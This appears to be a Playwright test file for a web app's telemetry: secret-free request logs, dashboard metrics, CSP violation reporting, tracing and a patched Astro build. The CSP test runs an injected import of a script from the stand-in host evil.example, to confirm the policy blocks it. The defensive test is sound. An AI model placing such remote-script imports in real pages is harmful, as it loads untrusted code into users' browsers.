import { globSync, readFileSync } from 'node:fs';
import { type BrowserContext, expect, test as base } from '@playwright/test';
import { freePort } from '../support/free-port.ts';
import { logLines } from '../support/log-lines.ts';
import { type SentSpan, startCollector } from '../support/otlp-collector.ts';
import { type RunningServer, startServer } from '../support/server.ts';
import { asOurs, signUp } from '../support/signed-in.ts';

interface Site {
  server: RunningServer;
  metrics: string;
  spans: SentSpan[];
}

/** The product with production settings and all telemetry on. */
const test = base.extend<object, { site: Site }>({
  site: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of the fixtures from this pattern
    async ({}, use) => {
      const [collector, port] = [await startCollector(), await freePort()];
      const server = await startServer({
        APP_ENV: 'production',
        DEMO: '1',
        SESSION_KEYS: Buffer.alloc(32, 7).toString('base64'),
        NOW: '2026-11-21T14:00:00Z',
        METRICS_PORT: String(port),
        OTEL_EXPORTER_OTLP_ENDPOINT: collector.origin,
      });
      await use({ server, metrics: `http://127.0.0.1:${port}/metrics`, spans: collector.spans });
      await server.stop('SIGKILL');
      collector.close();
    },
    { scope: 'worker', timeout: 120_000 },
  ],
});

/** Every secret that a browser sends or receives. */
async function secretsOf(context: BrowserContext): Promise<string[]> {
  const values = (await context.cookies()).map(({ value }) => decodeURIComponent(value));
  return values.filter((value) => value.length > 12 && !value.startsWith('/'));
}

test(
  'each request of a journey logs one line without secrets',
  { tag: '@rare' },
  async ({ page, context, site: { server } }) => {
    const { origin } = server;
    const secrets: string[] = ['SECRET-COUPON-7', 'tlop_secret-operator-token'];
    page.on('request', (request) => {
      const { searchParams } = new URL(request.url());
      for (const name of ['code', 'state', 'code_challenge']) secrets.push(searchParams.get(name) ?? '');
    });
    const account = await signUp(context, origin);
    secrets.push(account.email, account.password, account.email.split('@')[0]!, ...(await secretsOf(context)));
    for (const path of ['/', '/teams', '/profile', '/setting', `/search?query=${account.email}`])
      await page.goto(origin + path);
    // The server may close an idle connection just as the client takes it again: a client then asks once more.
    await context.request.get(`${origin}/api/v2/coupons/SECRET-COUPON-7`, { maxRetries: 1 });
    await context.request.put(`${origin}/api/v2/sso_verifications/${secrets.at(-1)}`, { data: 'not json' });
    const bearer = { authorization: 'Bearer tlop_secret-operator-token' };
    await context.request.get(`${origin}/api/v2/admin/config`, { headers: bearer });
    await context.request.post(`${origin}/v2/users/me`, { headers: asOurs(origin), data: { name: account.email } });
    await page.goto(`${origin}/logout`);
    await page.goto(`${origin}/login`);
    secrets.push(...(await secretsOf(context)));

    const last = await context.request.get(`${origin}/api/v2/sports`);
    const lastId = last.headers()['x-request-id'];
    await expect.poll(() => logLines(server).some(({ id }) => id === lastId)).toBe(true);
    const requests = logLines(server).filter(({ msg }) => msg === 'request');
    const ids = requests.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    const routes = new Set(requests.map(({ route }) => route));
    for (const route of [
      '/',
      '/profile',
      '/search',
      'file',
      '/verify-code',
      '/api/v2/coupons/{code}',
      '/oauth/authorize',
    ])
      expect([...routes]).toContain(route);
    const found = secrets.filter((secret) => secret.length > 5 && server.output().includes(secret));
    expect(found).toEqual([]);
  },
);

test('the metrics endpoint has every metric of the dashboard', async ({ page, site: { server, metrics } }) => {
  await page.goto(`${server.origin}/teams`);
  await page.goto(`${server.origin}/teams`);
  const report = { 'csp-report': { 'document-uri': `${server.origin}/teams`, 'effective-directive': 'img-src' } };
  const sent = await fetch(`${server.origin}/internal/csp`, {
    method: 'POST',
    headers: { 'content-type': 'application/csp-report' },
    body: JSON.stringify(report),
  });
  expect(sent.status).toBe(204);
  const scrape = await (await fetch(metrics)).text();
  const measured = new Set([...scrape.matchAll(/^([a-z_]\w*)(?:\{| )/gm)].map(([, name]) => name));
  const dashboard = readFileSync('docs/grafana/touchline.json', 'utf8');
  const named = new Set([...dashboard.matchAll(/\b(?:touchline|nodejs|process)_\w+/g)].map(([name]) => name));
  expect(named.size).toBeGreaterThan(20);
  expect([...named].filter((name) => !measured.has(name))).toEqual([]);
  // The dashboard leaves no metric of the product out.
  const families = [...scrape.matchAll(/^# TYPE (touchline_\w+)/gm)].map(([, name]) => name!);
  expect(families.filter((name) => ![...named].some((known) => known.startsWith(name)))).toEqual([]);
  expect((await fetch(`${server.origin}/metrics`)).status).toBe(404);
});

test('the browser reports a policy violation', async ({ page, site: { server, metrics } }) => {
  await page.goto(`${server.origin}/teams`);
  await page.evaluate("import('https://evil.example/x.js').catch(() => {})");
  const reported = async () =>
    /^touchline_csp_reports_total\{directive="script-src-elem"\} 1$/m.test(await (await fetch(metrics)).text());
  await expect.poll(reported).toBe(true);
  const reports = () => logLines(server).filter(({ blocked }) => blocked === 'https://evil.example');
  await expect.poll(reports).toMatchObject([{ msg: 'Blocked on a page', route: '/teams' }]);
});

test('a page and its backend calls form one trace', { tag: '@rare' }, async ({ page, site: { server, spans } }) => {
  await page.goto(`${server.origin}/venues`);
  const render = () => spans.find(({ name }) => name === 'render /venues');
  const traced = () => spans.filter(({ traceId }) => traceId === render()?.traceId);
  const request = () => traced().find(({ name }) => name === 'GET /venues');
  // A span is sent when it ends: the request's may come in a later batch.
  await expect.poll(request, { timeout: 20_000 }).toBeTruthy();
  const trace = traced();
  expect(render()?.parentSpanId).toBe(request()?.spanId);
  const calls = trace.filter(({ parentSpanId }) => parentSpanId === render()?.spanId).map(({ name }) => name);
  expect(calls).toContain('GET /api/v2/venues');
});

test('the built server holds the patch of Astro, not what it replaces', () => {
  const code = globSync('dist/server/**/*.mjs').map((path) => readFileSync(path, 'utf8'));
  const holds = (text: string) => code.some((one) => one.includes(text));
  expect([holds('Symbol("astro.slots")'), holds('const slotValue = () =>')]).toEqual([true, true]);
  expect([holds('slotsByAstro'), holds('this.slotValues[name] = () =>')]).toEqual([false, false]);
});
